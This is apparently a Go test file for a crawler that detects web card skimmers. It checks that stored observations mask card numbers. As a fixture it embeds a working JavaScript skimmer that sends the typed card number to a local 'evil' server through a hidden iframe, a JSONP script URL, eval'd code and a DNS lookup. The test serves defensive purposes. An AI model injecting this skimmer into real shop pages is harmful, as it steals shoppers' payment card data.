package crawler

import (
	"encoding/json"
	"net/http"
	"strings"
	"testing"
	"time"

	skimguard "github.com/skimguard/skimguard"
	"github.com/skimguard/skimguard/carddata"
)

// Skimmers put the card in places other than request bodies: a hidden
// iframe's src, a script's src (JSONP), the text of eval'd code, a host
// name (sent as a DNS query). The
// observation is stored and shown, so none of them may keep the number.
func TestCardDataIsMaskedEverywhereInTheObservation(t *testing.T) {
	c := needBrowser(t)
	evil := serveOn(t, "127.0.0.4", http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if strings.HasSuffix(r.URL.Path, ".js") {
			js(w, "void 0;")
			return
		}
		html(w, "<p>ok</p>")
	}))
	shop := serveOn(t, "127.0.0.1", http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		html(w, `<form action="/pay" method="post"><input name="cardnumber" autocomplete="cc-number"></form>
<script>
document.addEventListener('change', function (e) {
  var n = e.target.value;
  var f = document.createElement('iframe'); f.style.display = 'none'; f.src = '`+evil.URL+`/log?cc=' + n; document.body.appendChild(f);
  var s = document.createElement('script'); s.src = '`+evil.URL+`/jsonp.js?cc=' + n; document.head.appendChild(s);
  eval('window.stolen = "' + n + '";');
  fetch('http://' + n + '.invalid/dns').catch(function () {});
}, true);
</script>`)
	}))
	obs := mustScan(t, c, skimguard.Page{Site: "s", Name: "p", URL: shop.URL, Interact: true, Wait: 2 * time.Second})
	if !obs.Typed || len(obs.Leaks) == 0 {
		t.Fatalf("the skimmer did not fire: typed=%v leaks=%d", obs.Typed, len(obs.Leaks))
	}
	obs.Screenshot = nil
	data, _ := json.Marshal(obs)
	number := carddata.Test().Number
	if strings.Contains(string(data), number) {
		i := strings.Index(string(data), number)
		t.Fatalf("the observation holds the unmasked card number: …%s…", data[max(i-120, 0):min(i+40, len(data))])
	}
	if !strings.Contains(string(data), number[:6]+"******"+number[12:]) {
		t.Fatalf("expected the masked number in the frame and script URLs:\n%s", data)
	}
}
